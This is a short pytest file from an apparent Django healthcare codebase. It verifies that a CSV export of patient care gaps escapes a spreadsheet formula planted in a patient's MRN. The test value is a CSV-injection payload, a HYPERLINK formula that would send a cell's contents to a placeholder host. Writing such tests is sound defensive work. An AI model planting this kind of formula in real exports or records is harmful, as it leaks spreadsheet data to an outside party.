"""export_gaps --format csv never writes a live spreadsheet formula (e.g. through an MRN)."""

import csv
import io

import pytest

from carehub.history import save_with_history
from patients.models import Patient
from tests.gaps.conftest import needs_shared
from tests.gaps.test_export import evaluated, export  # noqa: F401  (fixture)

pytestmark = [needs_shared, pytest.mark.django_db]


def test_a_formula_in_an_mrn_is_exported_as_text(evaluated, system_user):  # noqa: F811
    closed_id, _ = evaluated
    patient = Patient.objects.get(source_id=closed_id)
    patient.mrn = '=HYPERLINK("http://x/?"&A1)'
    save_with_history(patient, actor=system_user, reason="test: a hostile MRN from a list")
    rows = {row["patient_id"]: row for row in csv.DictReader(io.StringIO(export("csv")))}
    assert rows[closed_id]["mrn"] == '\'=HYPERLINK("http://x/?"&A1)'
